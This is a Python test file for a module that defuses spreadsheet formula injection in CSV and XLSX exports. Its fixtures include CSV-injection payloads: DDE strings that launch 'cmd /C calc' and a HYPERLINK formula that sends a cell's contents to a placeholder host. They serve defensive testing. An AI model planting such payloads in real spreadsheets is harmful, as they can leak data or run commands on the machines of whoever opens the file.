import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from lindungdesa.lib.cells import csv_value, csv_writer, formula_like, xlsx_row, xlsx_value

FORMULAS = [
    '=HYPERLINK("http://x/?"&C3,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["Budi Santoso", "Kepala Dusun =Hulu", "081234567890", "6103011204750001", "", "'=sudah", " =1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_formula_like(text):
    assert formula_like(text)


@pytest.mark.parametrize("value", [*PLAIN, 5, -5, 2.5, Decimal("-1.5"), date(2026, 1, 2), None])
def test_other_text_numbers_and_dates_are_not(value):
    assert not formula_like(value)


def test_a_csv_cell_gets_an_apostrophe_only_when_formula_like():
    assert csv_value("=1+1") == "'=1+1"
    assert csv_value("-5") == "'-5"  # text that looks like a negative number: text it stays
    assert csv_value("Budi") == "Budi"
    assert csv_value(-5) == -5 and csv_value(date(2026, 1, 2)) == date(2026, 1, 2)


def test_the_csv_writer_quotes_text_and_leaves_numbers_bare():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", -4, 2.5, Decimal("3.10"), None])
    writer.writerows([["+x", 7]])
    assert out.getvalue().splitlines() == ['"\'=1+1",-4,2.5,3.10,""', '"\'+x",7']


def test_a_semicolon_in_a_field_cannot_start_a_formula_cell_where_semicolons_split_cells():
    row = ["Budi;=1+1", 5]
    plain, safe = io.StringIO(), io.StringIO()
    csv.writer(plain).writerow(row)
    csv_writer(safe).writerow(row)
    # What a spreadsheet splitting on semicolons (Excel in Indonesian) makes of each line:
    assert any(formula_like(f) for f in next(csv.reader(io.StringIO(plain.getvalue()), delimiter=";")))
    assert not any(formula_like(f) for f in next(csv.reader(io.StringIO(safe.getvalue()), delimiter=";")))


def _written(write_only: bool, values: list) -> bytes:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("Data") if write_only else wb.active
    ws.append(xlsx_row(ws, values))
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_xlsx_text_is_never_a_formula_and_reads_back_as_typed(write_only):
    values = [*FORMULAS, *PLAIN[:4]]
    content = _written(write_only, values)
    cells = list(load_workbook(io.BytesIO(content)).worksheets[-1].iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * len(values)
    # XML reads a carriage return in text as a line feed (XML 1.0 §2.11): the only change on the way back.
    as_typed = [v.replace("\r", "\n") for v in values]
    assert [c.value for c in cells] == as_typed
    # Excel's quote prefix keeps a formula-like cell text when someone edits it; plain text needs none.
    assert [c.quotePrefix for c in cells] == [True] * len(FORMULAS) + [False] * 4
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    assert calamine.get_sheet_by_name(calamine.sheet_names[-1]).to_python()[0] == as_typed


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_xlsx_numbers_and_dates_stay_numbers_and_dates(write_only):
    content = _written(write_only, [-4, 2.5, Decimal("3.25"), date(2026, 1, 2), datetime(2026, 1, 2, 3, 4)])
    cells = list(load_workbook(io.BytesIO(content)).worksheets[-1].iter_rows())[0]
    assert [c.data_type for c in cells] == ["n", "n", "n", "d", "d"]
    assert [c.value for c in cells] == [-4, 2.5, 3.25, datetime(2026, 1, 2), datetime(2026, 1, 2, 3, 4)]
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    row = calamine.get_sheet_by_name(calamine.sheet_names[-1]).to_python()[0]
    assert row[:3] == [-4, 2.5, 3.25] and row[3] == date(2026, 1, 2)


def test_an_existing_cell_is_set_the_same_way():
    wb = Workbook()
    cell = xlsx_value(wb.active.cell(row=1, column=1), "=1+1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert xlsx_value(cell, 12).data_type == "n"


def test_control_characters_an_xlsx_cannot_hold_are_dropped_rather_than_failing_the_file():
    content = _written(True, ["Bu\x0bdi\x00", "=a\x01"])
    cells = list(load_workbook(io.BytesIO(content)).worksheets[-1].iter_rows())[0]
    assert [c.value for c in cells] == ["Budi", "=a"]
    assert cells[1].data_type == "s"
